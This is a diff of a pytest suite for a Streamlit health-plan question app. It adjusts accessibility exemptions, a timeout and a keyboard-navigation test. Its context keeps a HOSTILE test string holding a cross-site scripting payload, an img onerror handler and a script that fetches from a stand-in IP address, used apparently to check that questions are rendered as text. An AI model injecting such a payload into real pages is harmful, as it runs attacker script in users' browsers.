@@ -15,8 +15,8 @@ pytestmark = pytest.mark.model
 WAIT = "How long can the plan make me wait to see a specialist?"
 PLAN = "Cedar Coast Health Plan (sample)"
 HOSTILE = "<img src=x onerror=alert(1)><script>fetch('http://192.0.2.7/x')</script> second opinion?"
-FRAMEWORK = {"aria-progressbar-name"}
-"""Rules that Streamlit's own widgets break, for which there is no way round: its progress bar has no name."""
+FRAMEWORK = {"presentation-role-conflict": "stFileUploaderDropzone"}
+"""Rules that Streamlit's own widgets break, and in what: its file uploader has role "presentation" and a name."""
 
 
 @pytest.fixture(scope="module")
@@ -42,7 +42,11 @@ def nothing_leaves(reader: Reader) -> Iterator[None]:
 
 def sound(reader: Reader, state: str) -> None:
     """No fault that axe-core can find but those of the framework, no text below 16 pixels, no scrolling sideways."""
-    found = {rule: nodes for rule, nodes in reader.violations().items() if rule not in FRAMEWORK}
+    found = {
+        rule: nodes
+        for rule, nodes in reader.violations().items()
+        if not all(rule in FRAMEWORK and FRAMEWORK[rule] in markup for _, markup in nodes)
+    }
     assert found == {}, f"{state}: {found}"
     assert reader.small_text() == [], state
     assert reader.overflow() <= 0, state
@@ -146,7 +150,7 @@ def test_a_script_in_a_question_is_text(reader: Reader) -> None:
 def test_a_question_set_is_run_and_its_results_read(reader: Reader) -> None:
     reader.open("evaluate").sees("faulty.jsonl, line 1: kind is missing")
     sound(reader, "evaluate, empty")
-    reader.choose("Which half", "All questions").press("Start the run").sees("6 questions were asked.")
+    reader.choose("Which half", "All questions").press("Start the run").sees("6 questions were asked.", 240)
     sound(reader, "measures")
     reader.press("Charts").until(lambda: reader.all(".chart img"), "no drawing")
     sound(reader, "charts")
@@ -203,9 +207,9 @@ def test_the_page_speaks_spanish_and_quotes_stay(reader: Reader) -> None:
 
 def test_a_keyboard_reaches_quote_page_and_the_way_back(reader: Reader) -> None:
     reader.open(plan=PLAN)
-    reader.keys(Keys.TAB)
-    assert reader.focused() == "Skip to the content"
-    reader.keys(Keys.ENTER).tab_to("Your question, or a citation such as HSC 1383.15(c)")
+    reader.tab_to("Skip to the content", most=3).keys(Keys.ENTER).tab_to(
+        "Your question, or a citation such as HSC 1383.15(c)"
+    )
     reader.keys("How much is a specialist visit?", Keys.ENTER).rest()
     reader.until(lambda: reader.all(".quote.contract"), "no quote of the contract")
     opens = "Read it in its place"
